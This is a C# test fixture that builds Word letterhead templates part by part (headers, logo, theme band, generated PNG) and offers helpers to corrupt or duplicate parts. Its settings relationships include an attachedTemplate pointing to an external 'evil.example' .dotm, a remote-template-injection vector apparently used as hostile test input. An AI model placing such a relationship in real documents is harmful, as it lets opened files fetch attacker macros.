using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace AllianceBot.Tests.Documents.Letterheads;

/// <summary>A Word template part by part, as Word writes them; any part may be changed into what Word would not write.</summary>
internal sealed record TemplateFile
{
    public const string Namespaces =
        """xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14" """;

    public const string Logo = """<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="1440000" cy="540000"/><wp:docPr id="7" name="Logo" descr="Logo de la alianza"><a:hlinkClick r:id="rIdWeb"/></wp:docPr><wp:cNvGraphicFramePr/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdLogo"><a:extLst><a:ext uri="{28A0092B-C50C-407E-A947-70E740481C1C}"/></a:extLst></a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1440000" cy="540000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>""";

    /// <summary>A band in a colour of the theme, with the old form of it for programs that do not know it.</summary>
    public const string Band = """<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor distT="0" distB="0" distL="0" distR="0" simplePos="0" relativeHeight="2" behindDoc="1" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/><wp:positionH relativeFrom="page"><wp:posOffset>0</wp:posOffset></wp:positionH><wp:positionV relativeFrom="page"><wp:posOffset>0</wp:posOffset></wp:positionV><wp:extent cx="7560000" cy="216000"/><wp:effectExtent l="0" t="0" r="0" b="0"/><wp:wrapNone/><wp:docPr id="7" name="Band"/><wp:cNvGraphicFramePr/><a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="7560000" cy="216000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:solidFill><a:schemeClr val="accent1"><a:lumMod val="75000"/></a:schemeClr></a:solidFill></wps:spPr><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict><v:rect style="width:595pt;height:17pt" fillcolor="navy"/></w:pict></mc:Fallback></mc:AlternateContent></w:r>""";

    private const string Relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string WordType = "application/vnd.openxmlformats-officedocument.wordprocessingml.";

    private readonly Dictionary<string, byte[]> _parts = new(StringComparer.Ordinal);

    /// <summary>A page of wide margins; a logo, a band and a name in the header, another first page, an address in the footer.</summary>
    public static TemplateFile Usual { get; } = new TemplateFile()
        .With("[Content_Types].xml", Types("template.main"))
        .With("_rels/.rels", RelationsOf("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>"""))
        .With("word/document.xml", Document("""<w:titlePg/>"""))
        .With("word/_rels/document.xml.rels", RelationsOf(
            Relation("rIdS", "styles", "styles.xml"), Relation("rIdT", "theme", "/word/theme/theme1.xml"), Relation("rIdSet", "settings", "settings.xml"),
            Relation("rIdH", "header", "header1.xml"), Relation("rIdHF", "header", "header2.xml"), Relation("rIdHE", "header", "header3.xml"), Relation("rIdF", "footer", "footer1.xml")))
        .With("word/settings.xml", $"<w:settings {Namespaces}/>")
        .With("word/_rels/settings.xml.rels", RelationsOf($"""<Relationship Id="rId1" Type="{Relations}attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>"""))
        .With("word/theme/theme1.xml", """<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="T"><a:themeElements><a:clrScheme name="C"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:accent1><a:srgbClr val="0B6E4F"/></a:accent1></a:clrScheme><a:fontScheme name="F"><a:majorFont><a:latin typeface="Georgia"/></a:majorFont><a:minorFont><a:latin typeface="Verdana"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>""")
        .With("word/styles.xml", $"""<w:styles {Namespaces}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="22"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after="160" w:line="259" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="Encabezado"><w:name w:val="header"/><w:basedOn w:val="Normal"/><w:uiPriority w:val="99"/><w:pPr><w:spacing w:after="0" w:line="240" w:lineRule="auto"/></w:pPr><w:rPr><w:rFonts w:asciiTheme="majorHAnsi"/><w:color w:val="0B6E4F" w:themeColor="accent1"/></w:rPr></w:style></w:styles>""")
        .With("word/header1.xml", Header($"""<w:p w:rsidR="00AA11BB" w14:paraId="1A2B3C4D"><w:pPr><w:pStyle w:val="Encabezado"/></w:pPr>{Logo}<w:r><w:t xml:space="preserve"> Red Andina</w:t></w:r></w:p>"""))
        .With("word/_rels/header1.xml.rels", RelationsOf(Relation("rIdLogo", "image", "media/logo.png"), $"""<Relationship Id="rIdWeb" Type="{Relations}hyperlink" Target="https://red.example" TargetMode="External"/>"""))
        .With("word/header2.xml", Header($"""<w:p><w:pPr><w:pStyle w:val="Encabezado"/></w:pPr>{Band}{Logo}</w:p>"""))
        .With("word/_rels/header2.xml.rels", RelationsOf(Relation("rIdLogo", "image", "../word/media/logo.png")))
        .With("word/header3.xml", Header("<w:p><w:r><w:t>Página par</w:t></w:r></w:p>"))
        .With("word/footer1.xml", Footer("<w:p><w:r><w:t>Jr. Puno 123, Lima</w:t></w:r></w:p>"))
        .With("word/media/logo.png", Png(240, 90));

    public static string Header(string content) => $"<w:hdr {Namespaces}>{content}</w:hdr>";

    public static string Footer(string content) => $"<w:ftr {Namespaces}>{content}</w:ftr>";

    /// <param name="flags">What follows the margins of the last section.</param>
    /// <param name="margin">The attributes of its margins.</param>
    public static string Document(string flags, string margin = """w:top="1985" w:right="1701" w:bottom="1417" w:left="1701" w:header="708" w:footer="708" w:gutter="0" """) => $"""
        <w:document {Namespaces}><w:body><w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rIdHE"/><w:footerReference w:type="default" r:id="rIdF"/><w:pgSz w:w="8000" w:h="8000"/></w:sectPr></w:pPr></w:p><w:p/><w:sectPr><w:headerReference w:type="default" r:id="rIdH"/><w:headerReference w:type="first" r:id="rIdHF"/><w:headerReference w:type="even" r:id="rIdHE"/><w:pgSz w:w="12240" w:h="15840"/><w:pgMar {margin}/>{flags}</w:sectPr></w:body></w:document>
        """;

    public static string RelationsOf(params string[] relations) =>
        $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{string.Concat(relations)}</Relationships>""";

    public static string Relation(string id, string type, string target) => $"""<Relationship Id="{id}" Type="{Relations}{type}" Target="{target}"/>""";

    public static string Types(string main) => $"""
        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="{WordType}{main}+xml"/></Types>
        """;

    public TemplateFile With(string part, string content) => With(part, Encoding.UTF8.GetBytes(content));

    public TemplateFile With(string part, byte[] content)
    {
        var changed = new TemplateFile();
        foreach (var (name, bytes) in _parts)
            changed._parts[name] = bytes;
        changed._parts[part] = content;
        return changed;
    }

    /// <summary>With something put into the text of a part, where it does not belong.</summary>
    public TemplateFile Inserting(string part, int at, string junk)
    {
        var text = Encoding.UTF8.GetString(_parts[part]);
        return With(part, text.Insert(Math.Max(0, text.IndexOf('>', Math.Min(at * text.Length / 400, text.Length - 1))) + 1, junk));
    }

    public byte[] ToBytes(params string[] again)
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in _parts.Concat(again.Select(name => KeyValuePair.Create(name, _parts[name]))))
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return file.ToArray();
    }

    /// <summary>A picture of diagonal stripes.</summary>
    public static byte[] Png(int width, int height)
    {
        using var rows = new MemoryStream();
        using (var zip = new ZLibStream(rows, CompressionLevel.Fastest, leaveOpen: true))
        {
            for (var y = 0; y < height; y++)
                zip.Write([0, .. Enumerable.Range(0, width).SelectMany(x => (x + y) / 12 % 2 == 0 ? new byte[] { 11, 110, 79 } : [245, 158, 11])]);
        }

        var size = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(size, width);
        BinaryPrimitives.WriteInt32BigEndian(size.AsSpan(4), height);
        (size[8], size[9]) = (8, 2);
        return [0x89, .. "PNG\r\n\u001a\n"u8, .. Chunk("IHDR", size), .. Chunk("IDAT", rows.ToArray()), .. Chunk("IEND", [])];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        byte[] named = [.. Encoding.ASCII.GetBytes(type), .. data];
        var crc = uint.MaxValue;
        foreach (var b in named)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
                crc = (crc & 1) == 0 ? crc >> 1 : (crc >> 1) ^ 0xEDB88320;
        }

        var chunk = new byte[named.Length + 8];
        BinaryPrimitives.WriteInt32BigEndian(chunk, data.Length);
        named.CopyTo(chunk, 4);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(named.Length + 4), ~crc);
        return chunk;
    }
}
